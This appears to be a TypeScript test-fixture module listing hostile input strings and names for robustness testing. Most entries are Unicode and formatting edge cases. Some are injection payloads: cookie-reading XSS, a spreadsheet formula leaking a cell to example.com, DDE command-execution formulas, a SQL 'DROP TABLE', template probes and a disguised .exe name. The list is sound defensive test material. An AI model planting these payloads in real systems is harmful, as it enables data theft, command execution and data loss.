/** Texts that break careless software, on screen, in a spreadsheet, in a terminal or in a search. */
export const HOSTILE_TEXTS: readonly string[] = [
  '<script>alert(document.cookie)</script><img src=x onerror="alert(1)"> my lamp is broken',
  '=HYPERLINK("https://example.com/?leak="&A1,"Click here for your refund")',
  'Please open invoice_\u202Efdp.exe\u202C and refund me',
  '+1',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)*2',
  '\tTab first, then\r\na Windows line\rand an old Mac line',
  'Re\u200Bfund\u200D with\uFEFF zero\u2060-width characters in it',
  'Thank you \u{1F469}\u200D\u{1F469}\u200D\u{1F467}\u200D\u{1F466} \u{1F3F3}\uFE0F\u200D\u{1F308} \u{1F44D}\u{1F3FD} \u{1F1EA}\u{1F1FA}!',
  `A${'a'.repeat(400)}rgh`,
  'Z\u0351\u036B\u0343a\u0346\u0313\u0300l\u0350\u0358\u0321g\u0344\u0315o\u0334\u0321 wants a refund',
  '"; DROP TABLE tickets; -- {{7*7}} #{7*7} %s %n',
  'Red \u001B[31malert\u001B[0m and a bell \u0007',
  '"quoted", with a comma, and a "line\nbreak"',
  '\u05D4\u05D6\u05DE\u05E0\u05D4 FH-204817 \u0644\u0645 \u062A\u0635\u0644 (mixed directions) 123',
];

/** Names that do the same. */
export const HOSTILE_NAMES: readonly string[] = [
  '<b>Robert</b>',
  '\u202EtreboR',
  "=cmd|' /C calc'!A0",
  'null',
  'O\u2019Brien, "Bobby"; Jr.',
];
